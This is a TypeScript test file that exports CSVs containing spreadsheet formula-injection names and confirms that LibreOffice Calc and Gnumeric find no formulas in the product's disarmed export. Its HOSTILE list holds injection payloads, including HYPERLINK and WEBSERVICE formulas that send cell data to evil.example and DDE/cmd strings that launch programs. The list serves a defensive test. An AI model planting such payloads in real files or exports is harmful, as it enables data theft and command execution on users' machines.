import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { bytesOf, column } from '../unit/export/tables.js';
import { settingsOf, withServer } from './need.js';
import { calc, gnumeric, type Sheet } from './sheets.js';

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\0='];
const BEFORE = ['', ' ', '   ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u2060', '"', "'", '""', '\n', '\r\n'];
const PARTED = [';', ',', '\t', '|', '\n', '\r', '\r\n', '; ', '";', '";"', '","', '\t"', ';\u00a0', '\n\u200b'];
/** What somebody may call a campaign who means ill. */
const HOSTILE = [
  ...BEFORE.flatMap((before) => STARTS.map((start) => `${before}${start}1+1`)),
  ...PARTED.map((parting) => `Plan${parting}=1+1${parting}more`),
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=HYPERLINK("http://evil.example/?x="&A1;"Click")',
  '=WEBSERVICE("http://evil.example/?x="&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1:B2),"//a")',
  `=cmd|' /C calc'!A0`,
  `=DDE("cmd";"/C calc";"")`,
  `=DDE("cmd","/C calc","")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `Plan;=DDE("cmd";"/C calc";"");more`,
  `"=cmd|' /C calc'!A0"`,
  '{=1+1}',
  '=1+1\n=1+1\r\n=1+1',
];

const COLUMNS = [column('key', 'text'), column('name', 'text'), column('hours', 'number')];
const folder = mkdtempSync(join(tmpdir(), 'throughline-sheets-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** A file of the product's own writer, a name a row between a key and a number. */
async function csv(names: string[], isLossless: boolean): Promise<string> {
  const rows = names.map((name, k) => [`row ${k}`, name, -5]);
  const path = join(mkdtempSync(join(folder, 'csv-')), 'names.csv');
  writeFileSync(path, await bytesOf('csv', COLUMNS, rows, isLossless));
  return path;
}

withServer(
  'a hostile name does nothing in two spreadsheet programs',
  settingsOf(['REAL_SPREADSHEETS_CALC', 'REAL_SPREADSHEETS_GNUMERIC']),
  'spreadsheets.sh',
  (programs) => {
    const open = {
      'LibreOffice Calc, parted at ,': (file) => calc(programs.REAL_SPREADSHEETS_CALC, file, ','),
      'LibreOffice Calc, parted at ;': (file) => calc(programs.REAL_SPREADSHEETS_CALC, file, ';'),
      'LibreOffice Calc, parted at tabs': (file) => calc(programs.REAL_SPREADSHEETS_CALC, file, '\t'),
      Gnumeric: (file) => gnumeric(programs.REAL_SPREADSHEETS_GNUMERIC, file),
    } satisfies Record<string, (file: string) => Promise<Sheet>>;

    test.each(Object.entries(open))(
      '%s finds no formula, and without disarming it does',
      async (_, opened) => {
        const lossless = await opened(await csv(HOSTILE, true));
        expect(lossless.formulas).not.toEqual([]);
        const neutral = await opened(await csv(HOSTILE, false));
        expect(neutral.formulas).toEqual([]);
        // It was read to its last row.
        const last = `row ${HOSTILE.length - 1}`;
        expect(neutral.texts.filter((text) => text.startsWith(last))).toHaveLength(1);
      },
      120_000,
    );

    test('numbers stay numbers', async () => {
      const path = await csv(['Plan', 'Plan B'], false);
      for (const { numbers } of [await open['LibreOffice Calc, parted at ,'](path), await open.Gnumeric(path)])
        expect(numbers).toEqual([-5, -5]);
    }, 120_000);
  },
);
